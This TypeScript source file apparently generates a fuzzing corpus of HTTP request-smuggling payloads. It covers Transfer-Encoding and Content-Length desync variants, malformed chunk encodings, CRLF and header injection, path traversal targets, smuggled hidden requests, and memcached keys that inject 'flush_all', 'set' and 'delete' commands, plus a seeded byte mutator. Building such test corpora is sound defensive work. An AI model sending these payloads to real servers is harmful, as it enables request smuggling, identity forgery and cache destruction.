// Requests that two servers might see differently: each is what an attacker sends first on a connection, in front of a request that must stay hidden or be seen as
// one of its own. Families that the literature on request smuggling names, written as combinations.

import { seededRandom } from '../seeded-random.ts';

/** What an attacker wants the server behind to take for a request of its own. */
export const HIDDEN = 'GET /hidden HTTP/1.1\r\nHost: a\r\nX-Id: forged\r\nX-Line: forged\r\n\r\n';

const CHUNKED = 'Transfer-Encoding: chunked\r\n';
const CHUNKS = '5\r\nabcde\r\n0\r\n\r\n';

const CODINGS = [
  ...[
    'chunked',
    'Chunked',
    'xchunked',
    'chunked,',
    ', chunked',
    'chunked, identity',
    'identity, chunked',
    'identity',
    'cow',
    'trailers',
  ],
  ...[
    '"chunked"',
    'chunked;q=1',
    'chunked, chunked',
    'gzip, chunked',
    'chunked, cow',
    'chun\0ked',
    'chunked\0',
    '\vchunked',
    'chunked\v',
    'chunked\f',
  ],
  ...[
    '',
    'chunked\r',
    '\rchunked',
    '\r\n chunked',
    'chunked\r\n\t',
    '\n chunked',
    'chunked\n',
    '\xa0chunked',
    'chunked\xff',
    '\tchunked',
  ],
];
const CODING_NAMES = [
  ...[
    'transfer-encoding',
    'Transfer-Encoding ',
    'Transfer-Encoding\t',
    ' Transfer-Encoding',
    'Transfer_Encoding',
    'Transfer-Encoding\0',
  ],
  ...[
    'Transfer-Encoding\v',
    'X: y\rTransfer-Encoding',
    'X: y\nTransfer-Encoding',
    'Transfer\xadEncoding',
    'Transfer-Encod\0ing',
    '\0Transfer-Encoding',
  ],
  ...['"Transfer-Encoding"', 'Transfer.Encoding', 'X:\0\nTransfer-Encoding'],
];
const LENGTHS = [
  ...[
    '+5',
    '-1',
    '05',
    `${'0'.repeat(5000)}5`,
    '5,5',
    '5, 5',
    '5 5',
    '0x5',
    '5e0',
    '5.0',
    '5\0',
    '5;',
    '',
    '5_0',
    '\v5',
    '5\v',
    '\xa05',
    '"5"',
  ],
  ...[
    '18446744073709551621',
    '4294967301',
    '99999999999999999999',
    '9007199254740993',
    '5\r',
    '\r5',
    '\n5',
    '\r\n 5',
    '5 ',
    '\t5',
    '\xb5',
    '0',
    '6',
  ],
];
const SIZES = [
  ...[
    '05',
    `${'0'.repeat(2000)}5`,
    '0x5',
    '+5',
    '-5',
    ' 5',
    '5 ',
    '5\t',
    '5;a',
    '5;a=b',
    '5;a="b"',
    '5;a="b\r\n"',
    '5;a="b',
    '5;\n',
    '5;\r',
  ],
  ...[
    '5;a\rb',
    '5;a\nb',
    '5 ;a',
    '5; a = b',
    '5;;',
    '5;a;b',
    '5,',
    '5_',
    '5\0',
    '5\v',
    '\r\n5',
    '\n5',
    '',
    '5g',
    '\xb5',
    '10000000000000005',
  ],
  ...['100000005', 'FFFFFFFFFFFFFFFF', '5\r', `5;${'a'.repeat(20_000)}`],
];
const LINE_ENDS = ['\n', '\r', '\r\r\n', '\n\r\n', '', 'XX', '\r\n\r\n', '\0\r\n', ' \r\n'];
const ENDS = [
  ...[
    '0\r\n\r\n',
    '0\n\r\n',
    '0\r\n\n',
    '00000\r\n\r\n',
    '0x0\r\n\r\n',
    '-0\r\n\r\n',
    '0;a\r\n\r\n',
    '0 \r\n\r\n',
    '0\r\r\n\r\n',
  ],
  ...[
    ...[
      'X: y',
      'Content-Length: 60',
      'Transfer-Encoding: chunked',
      'Host: other',
      'X-Real-IP: 6.6.6.6',
      'X-Id: forged',
      'X_Id: forged',
    ],
    ...[
      'Connection: close',
      'Cookie: a',
      'X: y\n',
      ' X: y',
      'X',
      ':',
      'X : y',
      'X: a\r\n b',
      'A:\0',
      'GET /hidden HTTP/1.1',
      'X:y\n\n',
    ],
  ].map((trailer) => `0\r\n${trailer}\r\n\r\n`),
];
const FIELDS = [
  ...[
    'X-Id: forged',
    'X_Id: forged',
    'x-id:forged',
    'X.Id: forged',
    'X-Id\0: forged',
    'X-Id : forged',
    'X: a\r\n X-Id: forged',
    'X: a\rX-Id: forged',
  ],
  ...[
    'X: a\nX-Id: forged',
    'X: a\0b',
    'X-Real-IP: 6.6.6.6',
    'X_Real_IP: 6.6.6.6',
    'X-Forwarded_For: 6.6.6.6',
    'X-Forwarded-For: 6.6.6.6',
  ],
  ...[
    'X-Forwarded-For: 1\r\nX-Forwarded-For: 2',
    'Connection: X-Id, X-Line, X-Real-IP',
    'Connection: Host',
    'Connection: close, Content-Length\r\nContent-Length: 5',
  ],
  ...[
    'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
    'Connection: \0',
    'Connection: close\r\nConnection: keep-alive',
    'Keep-Alive: timeout=1',
  ],
  ...[
    'Host: other',
    'Host:other\r\nhost: third',
    'Host: ',
    'Host: a@other',
    'Host: a:99999',
    'Host: a/b',
    'Proxy: other',
    'Proxy-Connection: close',
  ],
  ...[
    'Content_Length: 60',
    'Content-Length_: 60',
    'Content.Length: 60',
    'Content_Type: text/other',
    'Content-Type: a\r\nContent-Type: b',
  ],
  ...[
    'Script-Name: /other',
    'Script_Name: /other',
    'Path-Info: /other',
    'Request-Method: DELETE',
    'Remote-Addr: 6.6.6.6',
    'Https: on',
  ],
  ...[
    'Expect: 100-continue',
    'Expect: 100-Continue, x',
    'Expect: 100-continue\r\nExpect: 100-continue',
    'TE: trailers',
    'Trailer: X-Id',
    'Max-Forwards: 0',
  ],
  ...[
    'Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__',
    'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 777',
  ],
  ...[
    'Upgrade: TLS/1.0\r\nConnection: Upgrade',
    'X-HTTP-Method-Override: DELETE',
    'X-Original-URL: /other',
    'X-Accel-Redirect: /other',
    'Cookie: a\r\nCookie: b',
  ],
  ...[
    ':X: y',
    'X',
    ': y',
    '\x80: y',
    'X\x80: y',
    'X: \x80\xff',
    'Range: bytes=0-',
    'Authorization: a\r\nAuthorization: b',
    'Via: 1.0 x',
  ],
];
/** `PATH` stands for the path of the server that is asked. */
const TARGETS = [
  ...[
    'http://otherPATHx',
    'http://a@otherPATHx',
    'https://otherPATHx',
    'HTTP://other:80PATHx',
    '//otherPATHx',
    'ftp://xPATH',
    'http:PATHx',
    'http://',
    'http:///x',
    '?x',
    '*',
    'other',
  ],
  ...[
    'PATHa#b',
    'PATH#/../x',
    'PATH;a',
    'PATH%0d%0aX-Id:%20forged',
    'PATH%0a%20HTTP/1.1',
    'PATHa b',
    'PATHa\tHTTP/1.1',
    'PATHa\vb',
    'PATH\0',
    'PATH%00',
    'PATH\x80\xa0',
  ],
  ...[
    'PATH..%2f..%2fx',
    'PATH%2e%2e/x',
    'PATH..//x',
    'PATH\\x',
    'PATH%',
    'PATH%zz',
    'PATH%c0%af',
    'PATH|"<>^`{}',
    'PATH?a=%0d%0aX:y',
    'PATH?\r',
    'PATH?a b',
  ],
  ...[
    'PATHx HTTP/1.0',
    'PATHx HTTP/1.1 ',
    'PATH%2fx%2f..%2f',
    'PATH%3fx',
    'PATH%23x',
    'PATH%20',
    `PATH${'a'.repeat(9000)}`,
  ],
];
const VERSIONS = [
  'HTTP/1.0',
  'HTTP/1.2',
  'HTTP/0.9',
  'HTTP/2.0',
  'HTTP/1.1 ',
  'http/1.1',
  'HTTP/01.1',
  'HTTP/1.01',
  'HTTP/1.1\0',
  'HTTP/ 1.1',
  'HTTP/1,1',
  '',
];
const METHODS = ['GET', 'HEAD', 'OPTIONS', 'DELETE', 'TRACE', 'CONNECT', 'PRI', 'get', 'P@ST', 'G\0ET'];

/** All families, on a path that ends with a slash. Text in latin-1: a byte a character. */
export function attacksOn(path: string): string[] {
  return [...framings(path), ...chunks(path), ...heads(path), ...bodies(path)];
}

function post(path: string, fields: string, body: string): string {
  return `POST ${path} HTTP/1.1\r\nHost: a\r\n${fields}\r\n${body}`;
}

function framings(path: string): string[] {
  const coded = [
    ...CODINGS.map((coding) => `Transfer-Encoding: ${coding}\r\n`),
    ...CODING_NAMES.map((name) => `${name}: chunked\r\n`),
  ];
  return [
    ...coded.flatMap((field) =>
      ['', 'Content-Length: 5\r\n', 'Content-Length: 60\r\n'].map((length) => post(path, length + field, CHUNKS)),
    ),
    ...coded.map((field) => post(path, `${field}Content-Length: 5\r\n`, '0\r\n\r\n')),
    ...coded.map((field) => post(path, CHUNKED + field, CHUNKS)),
    ...LENGTHS.map((length) => post(path, `Content-Length:${length}\r\n`, 'abcde')),
    ...LENGTHS.flatMap((length) => [
      post(path, `Content-Length: 5\r\nContent-Length:${length}\r\n`, 'abcde'),
      post(path, `Content_Length: 5\r\nContent-Length:${length}\r\n`, 'abcde'),
    ]),
  ];
}

function chunks(path: string): string[] {
  return [
    ...SIZES.map((size) => post(path, CHUNKED, `${size}\r\nabcde\r\n0\r\n\r\n`)),
    ...LINE_ENDS.flatMap((end) => [
      post(path, CHUNKED, `5${end}abcde\r\n0\r\n\r\n`),
      post(path, CHUNKED, `5\r\nabcde${end}0\r\n\r\n`),
      post(path, CHUNKED, `5\r\nabcde\r\n0${end}\r\n`),
      post(path, CHUNKED, `5\r\nabcde\r\n0\r\n${end}`),
    ]),
    ...ENDS.map((end) => post(path, CHUNKED, `5\r\nabcde\r\n${end}`)),
  ];
}

function heads(path: string): string[] {
  const request = (line: string, fields = ''): string => `${line}\r\nHost: a\r\n${fields}\r\n`;
  return [
    ...FIELDS.flatMap((field) => [
      request(`GET ${path} HTTP/1.1`, `${field}\r\n`),
      post(path, `${field}\r\nContent-Length: 5\r\n`, 'abcde'),
      `GET ${path} HTTP/1.1\r\n${field}\r\nHost: a\r\n\r\n`,
    ]),
    ...TARGETS.flatMap((target) =>
      ['GET', 'POST'].map((method) => request(`${method} ${target.replace('PATH', path)} HTTP/1.1`)),
    ),
    ...VERSIONS.flatMap((version) => [
      request(`GET ${path} ${version}`),
      `POST ${path} ${version}\r\nHost: a\r\n${CHUNKED}\r\n${CHUNKS}`,
    ]),
    ...METHODS.map((method) => request(`${method} ${path} HTTP/1.1`)),
    `\r\n\r\n${request(`GET ${path} HTTP/1.1`)}`,
    ` ${request(`GET ${path} HTTP/1.1`)}`,
    `GET  ${path} HTTP/1.1\r\nHost: a\r\n\r\n`,
    `GET ${path} HTTP/1.1\nHost: a\n\n`,
    `GET ${path} HTTP/1.1\r\n\r\n`,
    `GET http://other${path} HTTP/1.1\r\nHost: \r\n\r\n`,
    `GET ${path} HTTP/1.0\r\n\r\n`,
    `GET ${path} HTTP/1.0\r\nConnection: keep-alive\r\n${CHUNKED}\r\n${CHUNKS}`,
  ];
}

/** Whole requests as bodies, for who does not read them, and behind what is refused. */
function bodies(path: string): string[] {
  return ['GET', 'POST', 'HEAD', 'PUT', 'DELETE'].flatMap((method) => [
    `${method} ${path} HTTP/1.1\r\nHost: a\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
    `${method} ${path} HTTP/1.1\r\nHost: a\r\n${CHUNKED}\r\n${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`,
    `${method} ${path} HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: ${HIDDEN.length}\r\n\r\n${HIDDEN}`,
  ]);
}

const KEYS = [
  ...[
    'a',
    'a b',
    'a%20b',
    'a%0d%0aflush_all%0d%0a',
    'a%0aflush_all',
    'a%0dflush_all',
    'a%20noreply',
    'a%00b',
    'a%09b',
    'a%7f',
    'a\\x80',
    '%80',
    'canary',
    'canary%20other',
  ],
  ...[
    '%0d%0aset%20canary%200%200%204%0d%0adead',
    '%0d%0adelete%20canary',
    'a%250d%250aflush_all',
    'a+b',
    '%',
    '%0',
    '%zz',
    '',
    '%20',
    '%0d%0a',
  ],
  ...[249, 250, 251, 1000, 8000].flatMap((length) => [
    'k'.repeat(length),
    '%20'.repeat(Math.floor(length / 3)),
    `${'k'.repeat(length)}%0d%0aflush_all`,
  ]),
];

/** Keys of memcached that would be more than one command, in the path and in the query. */
export function keysOn(path: string): string[] {
  return KEYS.flatMap((key) =>
    ['GET', 'HEAD', 'POST', 'DELETE'].flatMap((method) => [
      `${method} ${path}${key} HTTP/1.1\r\nHost: a\r\n\r\n`,
      `${method} ${path}?${key} HTTP/1.1\r\nHost: a\r\n\r\n`,
    ]),
  );
}

const INSERTED = ['\r\n', '\r', '\n', '\0', ':', '\t', ' ', ',', ';', '0', '\v', '\x85', '\xa0', '_', '%0d%0a'];

/** As many of them with one to three bytes put in, taken away or changed, as the seed decides. */
export function mutate(attacks: readonly string[], count: number, seed: number): string[] {
  const random = seededRandom(seed);
  const pick = (length: number): number => Math.floor(random() * length);
  const short = attacks.filter((bytes) => bytes.length < 4096);
  return Array.from({ length: count }, () => {
    let bytes = short[pick(short.length)] ?? '';
    for (let left = 1 + pick(3); left > 0; left -= 1) {
      const at = pick(bytes.length);
      const kind = random();
      const put =
        kind < 0.5 ? (INSERTED[pick(INSERTED.length)] ?? '') : kind < 0.75 ? '' : String.fromCharCode(pick(256));
      bytes = bytes.slice(0, at) + put + bytes.slice(kind < 0.5 ? at : at + 1);
    }
    return bytes;
  });
}
